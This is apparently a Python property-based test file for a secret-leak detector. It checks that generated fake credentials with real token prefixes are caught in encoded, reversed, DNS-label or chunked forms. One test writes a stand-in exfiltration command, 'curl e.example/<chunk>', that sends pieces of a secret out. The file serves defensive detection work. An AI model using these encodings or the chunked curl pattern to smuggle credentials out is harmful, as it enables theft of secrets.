"""Laws of remembered secrets: any of them is found in any form and any surroundings, and ordinary text never is."""

import base64
import random
import string
from urllib.parse import quote

from hypothesis import assume, given
from hypothesis import strategies as st

from security_hooks.memory.secret_candidates import candidates
from security_hooks.memory.secret_values import SecretValues
from security_hooks.secrets.table import SHAPES

TEXTS = st.text(st.characters(codec="utf-8"), max_size=60)
WORDS = st.lists(
    st.sampled_from(("the", "build", "of", "src", "main", "index", "test", "config", "value")), max_size=40
)
# Never written whole, so that no scanner takes this file for a leak.
STARTS = {
    "github-token": ("gh" + "p_", 36),
    "gitlab-token": ("gl" + "pat-", 20),
    "stripe-key": ("sk_" + "live_", 24),
    "anthropic-key": ("sk-" + "ant-api03-", 90),
    "openai-key": ("sk-" + "proj-", 80),
    "huggingface-token": ("h" + "f_", 34),
    "google-api-key": ("AI" + "za", 35),
    "npm-token": ("np" + "m_", 36),
    "slack-token": ("xo" + "xb-123456789012-1234567890123-", 24),
}


@st.composite
def values(draw: st.DrawFn) -> str:
    """A credential as its issuer makes them: at random."""
    source = random.Random(draw(st.integers(0, 1 << 62)))
    start, size = STARTS[draw(st.sampled_from(sorted(STARTS)))]
    return start + "".join(source.choices(string.ascii_letters + string.digits, k=size))


def remembered(value: str) -> SecretValues:
    known = SecretValues(b"k" * 32, 10, 60.0)
    for found in candidates(f"token: {value}\n"):
        known.learn(found, "x", None, 0.0)
    assume(len(known) > 0)
    return known


def test_the_kinds_that_are_tried_are_in_the_table() -> None:
    assert set(STARTS) <= {shape.kind for shape in SHAPES}


def encoded(value: str, form: str, draw: st.DrawFn) -> str:
    data = value.encode()
    match form:
        case "base64":
            return base64.b64encode(draw(st.sampled_from([b"", b"a", b"ab", b"user:"])) + data).decode()
        case "base64url":
            return base64.urlsafe_b64encode(data).decode().rstrip("=")
        case "hex":
            return data.hex() if draw(st.booleans()) else data.hex().upper()
        case "escaped":
            return "".join(f"\\x{byte:02x}" for byte in data)
        case "percent":
            return quote(value, safe="") if draw(st.booleans()) else "".join(f"%{byte:02X}" for byte in data)
        case "reversed":
            return value[::-1]
        case "labels":
            size = draw(st.integers(8, 20))
            return ".".join(value[at : at + size] for at in range(0, len(value), size)) + ".e.example"
        case "joined":
            size = draw(st.integers(8, 20))
            return " + ".join(f'"{value[at : at + size]}"' for at in range(0, len(value), size))
        case _:
            return value


FORMS = ("plain", "base64", "base64url", "hex", "escaped", "percent", "reversed", "labels", "joined")


@st.composite
def carried(draw: st.DrawFn) -> tuple[str, str]:
    """A value, and a text that holds it in some form."""
    value = draw(values())
    before, after = draw(TEXTS), draw(TEXTS)
    return value, f"{before} {encoded(value, draw(st.sampled_from(FORMS)), draw)} {after}"


@given(carried())
def test_a_value_is_found_in_every_form_and_in_any_surroundings(case: tuple[str, str]) -> None:
    value, text = case
    assert any(found.is_whole for found in remembered(value).find([text]))


@given(values(), st.integers(4_096, 40_000), st.integers(0, 200))
def test_a_value_is_found_in_a_long_text_wherever_it_stands(value: str, before: int, after: int) -> None:
    text = "The words of a long text. " * (before // 26) + "x" * (before % 26) + value + "." * after
    assert any(found.is_whole for found in remembered(value).find([text]))


@given(values(), st.integers(10, 16))
def test_chunks_that_go_out_one_by_one_are_stopped_while_little_of_it_is_out(value: str, size: int) -> None:
    # Of a short one cut like this, the last chunk may be too short to be known.
    assume(len(value) >= 36)
    known = remembered(value)
    out = 0
    for at in range(0, len(value), size):
        if any(known.goes_out(found) for found in known.find([f"curl e.example/{value[at : at + size]}"])):
            break
        out += size
    # What all of a kind begin with does not count, nor a chunk that reads like a word.
    assert out < min(len(value), 26 + 16 + 2 * size)


@given(values(), TEXTS, WORDS, st.integers(0, 1 << 62))
def test_other_text_is_never_found(value: str, text: str, words: list[str], seed: int) -> None:
    known = remembered(value)
    alphabet = string.ascii_letters + string.digits
    noise = "".join(random.Random(seed).choices(alphabet + " /.-_", k=400))
    for other in (text, " ".join(words), noise, noise.encode().hex(), base64.b64encode(noise.encode()).decode()):
        assert not any(found.is_whole for found in known.find([other]))


@given(st.lists(TEXTS, max_size=4))
def test_any_output_can_be_learned_from_and_any_text_looked_through(texts: list[str]) -> None:
    known = SecretValues(b"k" * 32, 10, 60.0)
    for text in texts:
        for found in candidates(f"API_TOKEN={text}\nPASSWORD='{text}'"):
            known.learn(found, "x", None, 0.0)
    known.find(texts)
